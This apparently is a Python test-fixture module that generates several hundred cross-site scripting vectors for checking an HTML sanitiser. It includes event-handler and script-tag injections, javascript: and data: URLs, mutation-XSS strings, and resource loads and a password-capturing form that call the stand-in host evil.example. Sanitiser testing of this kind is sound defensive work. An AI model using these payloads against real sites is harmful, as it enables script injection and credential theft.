"""Over 300 pieces of HTML that would act or fetch, by families of tricks; each calls `pwn` or asks `evil.example`.

The page they are shown in defines `pwn`; a sanitised vector must neither call it nor ask anybody for anything.
"""

from itertools import product

HOST = "http://evil.example"
EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerover")
CARRIERS = (
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<details open {}>x</details>",
    "<input autofocus {}>",
    "<p {}>x",
)
QUOTES = ("{}=pwn()", '{}="pwn()"', "{}='pwn()'", "{}\n=\tpwn()", "{}=&#112;wn()")
HEADS = ("", "<div>", "<table><tr>", "<!--", "-->", "</title>", "</style>", "</textarea>", "<svg>", "<math><mtext>")
SCRIPTS = (
    "<script>pwn()</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script/x>pwn()</script>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<script>pwn()//",
    "<script type=module>pwn()</script>",
)
SCHEMES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "java&#x0A;script:pwn()",
    "&#106;avascript:pwn()",
    " javascript:pwn()",
    "\x01javascript:pwn()",
    "vbscript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "view-source:javascript:pwn()",
)
PLACES = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input type=submit></form>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<button formaction="{}">x</button>',
    '<area href="{}">',
)
REMOTE = (
    '<img src="{0}/a.png">',
    '<img srcset="{0}/a.png 1x">',
    '<img src="//evil.example/a.png">',
    '<p style="background:url({0}/b)">x</p>',
    "<style>@import '{0}/c.css';</style>",
    "<style>p{{background:url({0}/d)}}</style>",
    '<link rel=stylesheet href="{0}/e.css">',
    '<link rel=preload as=image href="{0}/f">',
    '<link rel=dns-prefetch href="//evil.example">',
    '<meta http-equiv=refresh content="0;{0}/g">',
    '<base href="{0}/">',
    '<video src="{0}/h" poster="{0}/i"></video>',
    '<audio src="{0}/j" autoplay></audio>',
    '<iframe src="{0}/k"></iframe>',
    '<object data="{0}/l"></object>',
    '<embed src="{0}/m">',
    '<svg><image href="{0}/n"/><use href="{0}/o#p"/></svg>',
    '<svg><filter><feImage href="{0}/p"/></filter></svg>',
    '<input type=image src="{0}/q">',
    '<table background="{0}/r"><tr><td background="{0}/s">x</table>',
    '<body background="{0}/t">',
    '<picture><source srcset="{0}/u"><img></picture>',
    '<a href="{0}" ping="{0}/v">x</a>',
    '<blockquote cite="{0}/w">x</blockquote>',
    '<img src="cid:{0}">',
    '<p style="list-style-image:url({0}/x);behavior:url({0}/y)">x</p>',
    '<form action="{0}/z"><input type=password name=p><button>Log ind</button></form>',
    '<font face="x;background:url({0})">x</font>',
)
# The parser's own repairs turn these into something else than they look like (mutation XSS).
MUTATIONS = (
    "<svg></p><style><a id=\"</style><img src=1 onerror=pwn()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn()&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<svg><desc><noscript><img title=\"</noscript><img src=x onerror=pwn()>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=pwn()>",
    "<svg><foreignObject><style></style><iframe srcdoc=\"<script>parent.pwn()</script>\">",
    "<template><script>pwn()</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=pwn()>\">",
    "<plaintext><img src=x onerror=pwn()>",
    "<textarea><img title=\"</textarea><img src=x onerror=pwn()>\">",
    "<title><img title=\"</title><img src=x onerror=pwn()>\">",
    "<!--><img src=x onerror=pwn()>-->",
    "<!--!><img src=x onerror=pwn()>--!>",
    "<![CDATA[><img src=x onerror=pwn()>]]>",
    "<?xml ?><img src=x onerror=pwn()>",
    "<img alt=\"`><img src=x onerror=pwn()>`\">",
    "&lt;img src=x onerror=pwn()&gt;<p title='&lt;img src=x onerror=pwn()&gt;'>x",
    "<svg><set attributeName=href to=javascript:pwn()><a id=x><text>x</text></a></svg>",
    "<svg><animate onbegin=pwn() attributeName=x></svg>",
    "<marquee onstart=pwn()>x</marquee>",
    "<a href=\"https://virk.dk\"><img src=x onerror=pwn()></a>",
    "<table><tr><td colspan=\"2 onclick=pwn()\">x</table>",
    "<td/colspan='2'onmouseover=pwn()>x",
    "<p/onclick=pwn()//>x",
    "<p \x00onclick=pwn()>x",
    "<p\x0conclick=pwn()>x",
    "<isindex action=javascript:pwn() type=image>",
    "<select><style></select><img src=x onerror=pwn()></style>",
    "<nobr><a href='javascript&colon;pwn()'>x</a></nobr>",
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, no two alike."""
    events = [carrier.format(quote.format(event)) for carrier, quote, event in product(CARRIERS, QUOTES, EVENTS)]
    scripts = [head + script for head, script in product(HEADS, SCRIPTS)]
    schemes = [place.format(scheme.replace('"', "&quot;")) for place, scheme in product(PLACES, SCHEMES)]
    return list(dict.fromkeys([*events, *scripts, *schemes, *(one.format(HOST) for one in REMOTE), *MUTATIONS]))
